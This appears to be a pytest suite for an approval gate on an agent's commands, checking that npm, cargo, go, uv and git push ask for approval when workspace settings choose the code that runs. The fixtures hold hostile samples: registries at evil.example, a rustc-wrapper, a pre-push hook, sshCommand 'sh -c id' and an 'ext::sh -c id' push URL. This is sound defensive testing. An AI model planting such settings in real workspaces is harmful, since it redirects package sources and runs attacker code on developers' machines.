"""Workspace settings that choose code: under a host standing approval for a package manager or git push, a
workspace whose settings choose the code that runs (an .npmrc registry, a toolchain file, a push hook, a remote on
this machine) asks; the plain workspace stays covered; a request without the adapter's report asks (fail closed).
Over real HTTP, with the bodies the adapter's own grading builds from real files."""

from __future__ import annotations

import asyncio
import json
import shutil
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from bot.risk import classify
from bot.risk.recipes import ProjectRecipes
from tests.harness import Harness
from tests.pg import migrated_store
from tests.test_hooks import deny_with, pending_id, start_exec
from tests.test_standing import auto
from tests.test_standing_coverage import _approve, asks_then_withdraw, sent


@pytest.fixture(params=["sqlite", "postgresql"])
async def harness(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[Harness]:
    """The real server over each store: standing approvals are read from it."""
    async with migrated_store(request.param, tmp_path) as url:
        served = Harness(tmp=tmp_path, settings_overrides={"database_url": url})
        await served.start()
        try:
            yield served
        finally:
            await served.close()


def project(root: Path) -> Path:
    """A plain project in ``root``: a git repository with a GitHub remote, a package.json without scripts."""
    root = root.resolve()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    subprocess.run(["git", "-C", str(root), "remote", "add", "origin", "git@github.com:x/y.git"], check=True)
    (root / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0"}))
    return root


async def _host_approvals(harness: Harness) -> None:
    for pattern in ("npm install", "pnpm install", "yarn install", "cargo install", "go install", "git push"):
        await _approve(harness, pattern=pattern, max_risk="system", host_ok=True)


PLAIN = [
    "npm install",
    "npm install lodash",
    "pnpm install",
    "cargo install ripgrep",
    "git push origin main",
    "git push",
    "go install example.com/x@latest",
]


async def test_a_plain_workspace_stays_covered_and_settings_that_choose_code_ask(
    harness: Harness, tmp_path: Path
) -> None:
    token = await harness.add_bot()
    await _host_approvals(harness)
    plain = project(tmp_path / "plain")
    (plain / ".npmrc").write_text("save-exact=true\nfund=false\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n")
    for command in PLAIN:
        await auto(harness, token, **sent(command, plain))

    cases: list[tuple[str, str, str]] = [  # (file, content, command)
        (".npmrc", "registry=https://evil.example/\n", "npm install lodash"),
        (".npmrc", "@corp:registry=https://evil.example/\n", "npm install"),
        (".npmrc", "use-node-version=99.0.0\n", "pnpm install"),
        (".yarnrc.yml", "npmRegistryServer: https://evil.example\n", "yarn install"),
        (".pnpmfile.cjs", "module.exports = {}\n", "pnpm install"),
        ("rust-toolchain.toml", '[toolchain]\npath = "/tmp/evil-toolchain"\n', "cargo install ripgrep"),
        ("rust-toolchain", "nightly\n", "cargo install ripgrep"),
        (".cargo/config.toml", '[build]\nrustc-wrapper = "/tmp/evil"\n', "cargo install ripgrep"),
        ("go.mod", "module x\n\ngo 1.22\n\ntoolchain go1.99.0\n", "go install example.com/x@latest"),
        ("go.work", "go 1.22\n\nuse ./evil\n", "go install example.com/x@latest"),
        (".git/hooks/pre-push", "#!/bin/sh\ntouch /tmp/pwned\n", "git push origin main"),
        (".git/config", '[core]\n\tsshCommand = "sh -c id"\n', "git push origin main"),
        (".git/config", '[remote "origin"]\n\tpushurl = /tmp/evil.git\n', "git push origin main"),
        (".git/config", '[url "/tmp/evil.git"]\n\tpushInsteadOf = git@github.com:\n', "git push"),
        (".git/config", "[include]\n\tpath = /tmp/evil.conf\n", "git push origin main"),
    ]
    for index, (name, content, command) in enumerate(cases):
        root = project(tmp_path / f"case{index}")
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("a") as handle:
            handle.write(content)
        esc = await asks_then_withdraw(harness, token, **sent(command, root))
        # a setting that names a program git runs is graded as running it (runs-program, destructive)
        assert {r["rule"] for r in esc["reasons"]} & {"workspace-settings", "runs-program"}, (name, esc["reasons"])

    # the root package's own life cycle scripts run on install: named on the card, never covered
    scripted = project(tmp_path / "scripted")
    (scripted / "package.json").write_text(json.dumps({"name": "x", "scripts": {"postinstall": "echo hi"}}))
    await asks_then_withdraw(harness, token, **sent("npm install", scripted))


PYTHON_PLAIN_PYPROJECT = '[project]\nname = "x"\nversion = "1.0"\n[tool.uv]\ndev-dependencies = ["pytest"]\n'


async def test_python_package_tools_ask_when_the_workspace_chooses_where_packages_come_from(
    harness: Harness, tmp_path: Path
) -> None:
    token = await harness.add_bot()
    for pattern in ("uv sync", "uv pip install", "poetry install", "pipenv install"):
        await _approve(harness, pattern=pattern, max_risk="system", host_ok=True)
    plain = project(tmp_path / "plain")
    (plain / "pyproject.toml").write_text(PYTHON_PLAIN_PYPROJECT)
    (plain / "Pipfile").write_text('[[source]]\nurl = "https://pypi.org/simple"\nname = "pypi"\n')
    for command in ("uv sync", "uv pip install requests", "poetry install", "pipenv install"):
        await auto(harness, token, **sent(command, plain))

    cases: list[tuple[str, str, str]] = [  # (file, content, command)
        ("uv.toml", 'index-url = "http://evil.example/simple"\n', "uv pip install requests"),
        ("pyproject.toml", '[project]\nname = "x"\n[tool.uv]\nextra-index-url = ["http://evil"]\n', "uv sync"),
        ("pyproject.toml", '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "http://evil"\n', "uv sync"),
        ("pyproject.toml", '[tool.uv.sources]\nx = { git = "https://evil.example/x" }\n', "uv sync"),
        ("pyproject.toml", '[[tool.poetry.source]]\nname = "e"\nurl = "http://evil"\n', "poetry install"),
        ("poetry.toml", '[repositories.e]\nurl = "http://evil"\n', "poetry install"),
        ("Pipfile", '[[source]]\nurl = "http://evil/simple"\nname = "e"\n', "pipenv install"),
        ("pyproject.toml", "[tool.uv\nnot toml", "uv sync"),  # unreadable: fail closed
    ]
    for index, (name, content, command) in enumerate(cases):
        root = project(tmp_path / f"py{index}")
        (root / name).write_text(content)
        esc = await asks_then_withdraw(harness, token, **sent(command, root))
        # a setting that names a program git runs is graded as running it (runs-program, destructive)
        assert {r["rule"] for r in esc["reasons"]} & {"workspace-settings", "runs-program"}, (name, esc["reasons"])


async def test_git_push_to_a_repository_on_this_machine_is_destructive_or_asks(
    harness: Harness, tmp_path: Path
) -> None:
    token = await harness.add_bot()
    await _host_approvals(harness)
    root = project(tmp_path / "ws")
    subprocess.run(
        ["git", "init", "-q", "--bare", str(root / "b")], check=True
    )  # a bare repository with hooks of its own
    (root / "b" / "hooks" / "pre-receive").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    for command in (
        "git push ./b main",
        "git push /tmp/evil.git main",
        "git push file:///tmp/evil.git main",
        "git push 'ext::sh -c id' main",
        "git push .. main",
        "git push b/ main",
    ):
        esc = await asks_then_withdraw(harness, token, **sent(command, root))
        assert esc["risk"] == "destructive", (command, esc["reasons"])
    esc = await asks_then_withdraw(harness, token, **sent("git push b main", root))  # no remote is named b: a path
    assert any("no configured remote" in r["detail"] for r in esc["reasons"]), esc["reasons"]
    await auto(harness, token, **sent("git push origin main", root))


async def test_without_the_adapters_report_a_command_whose_settings_can_choose_code_asks(harness: Harness) -> None:
    token = await harness.add_bot()
    await _host_approvals(harness)
    await _approve(harness, pattern="apt-get install", max_risk="system", host_ok=True)
    await auto(harness, token, command="apt-get install -y jq", contained=False)  # reads nothing from the workspace
    for command in (
        "npm install",
        "npm install lodash",
        "cargo install ripgrep",
        "git push origin main",
        "git push",
        "go install example.com/x@latest",
    ):
        esc = await asks_then_withdraw(harness, token, command=command, contained=False)
        assert any("not reported" in r["detail"] for r in esc["reasons"]), (command, esc["reasons"])


def test_the_adapters_report_lists_each_setting_that_chooses_code(tmp_path: Path) -> None:
    root = project(tmp_path / "ws")
    (root / ".npmrc").write_text("registry=https://evil.example/\nsave=true\n")
    verdict = classify("npm install lodash", contained=False, workspace=root, recipes=ProjectRecipes(root))
    assert verdict.commands[0].chosen_by == (".npmrc:1: registry",)
    settings = [r for r in verdict.recipes if r.target == "<settings> "]
    assert [(line.source, line.command) for line in settings[0].lines] == [(".npmrc:1", "registry")]


@pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")
async def test_flybot_exec_asks_before_npm_install_under_an_npmrc_registry_and_runs_a_plain_one(
    harness: Harness, tmp_path: Path
) -> None:
    token = await harness.add_bot()
    await _approve(harness, pattern="npm install", max_risk="system", host_ok=True)
    plain = project(tmp_path / "plain")
    run = await start_exec(
        plain,
        "--ceiling",
        "read_only",
        "--",
        "npm install --no-audit --no-fund",
        FLYBOT_URL=harness.url,
        FLYBOT_TOKEN=token,
    )
    code, _out, err = await run.finish(timeout=60)
    assert code == 0 and "standing approval" in err, err

    hostile = project(tmp_path / "hostile")
    (hostile / ".npmrc").write_text("registry=http://127.0.0.1:9/\n")
    run = await start_exec(
        hostile,
        "--ceiling",
        "read_only",
        "--",
        "npm install --no-audit --no-fund",
        FLYBOT_URL=harness.url,
        FLYBOT_TOKEN=token,
    )
    escalation_id = await pending_id(harness)  # a card: it asked
    assert not (hostile / "package-lock.json").exists(), "npm does not run before the answer"
    await deny_with(harness, escalation_id, "not that registry")
    code, _out, err = await run.finish()
    assert code == 126 and "not that registry" in err, err
    assert not (hostile / "package-lock.json").exists()


async def test_flybot_ask_sends_the_workspace_report_so_a_plain_install_is_covered_and_a_hostile_one_asks(
    harness: Harness, tmp_path: Path
) -> None:
    from tests.test_cli import _ask

    token = await harness.add_bot()
    await _approve(harness, pattern="npm install", max_risk="system", host_ok=True)
    plain = project(tmp_path / "plain")
    proc = await _ask(plain, harness.url, token, "--json", "--timeout", "5", "--", "npm install lodash")
    out, err = await asyncio.wait_for(proc.communicate(), 30)
    assert proc.returncode == 0 and json.loads(out)["decision_source"] == "standing_approval", (out, err)

    hostile = project(tmp_path / "hostile")
    (hostile / ".npmrc").write_text("registry=https://evil.example/\n")
    proc = await _ask(hostile, harness.url, token, "--json", "--timeout", "5", "--", "npm install lodash")
    assert await pending_id(harness)  # a card: it asked
    proc.kill()
    await proc.wait()


def test_git_settings_are_read_through_a_worktrees_gitdir_file_and_remote_names_with_dots(tmp_path: Path) -> None:
    main = project(tmp_path / "main")
    subprocess.run(["git", "-C", str(main), "remote", "add", "my.fork", "git@github.com:me/x.git"], check=True)
    subprocess.run(
        [
            "git",
            "-C",
            str(main),
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "init",
        ],
        check=True,
    )
    worktree = (tmp_path / "wt").resolve()
    subprocess.run(["git", "-C", str(main), "worktree", "add", "-q", str(worktree)], check=True)

    def chosen(command: str, root: Path) -> tuple[str, ...]:
        return classify(command, contained=False, workspace=root, recipes=ProjectRecipes(root)).commands[0].chosen_by

    assert chosen("git push my.fork main", main) == ()
    assert chosen("git push origin main", worktree) == ()
    (main / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\n")
    assert any("hooks/pre-push: a hook git runs on push" in what for what in chosen("git push origin main", worktree))


def test_flybot_classify_with_cwd_lists_what_chooses_code(tmp_path: Path) -> None:
    import sys

    root = project(tmp_path / "ws")
    (root / ".npmrc").write_text("registry=https://evil.example/\n")
    done = subprocess.run(
        [sys.executable, "-m", "bot", "classify", "--cwd", str(root), "--json", "--", "npm install"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    commands = json.loads(done.stdout)["commands"]
    assert commands[0]["chosen_by"] == [".npmrc:1: registry"], commands
    plain = project(tmp_path / "plain")
    done = subprocess.run(
        [sys.executable, "-m", "bot", "classify", "--cwd", str(plain), "--json", "--", "npm install"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert "chosen_by" not in json.loads(done.stdout)["commands"][0], done.stdout
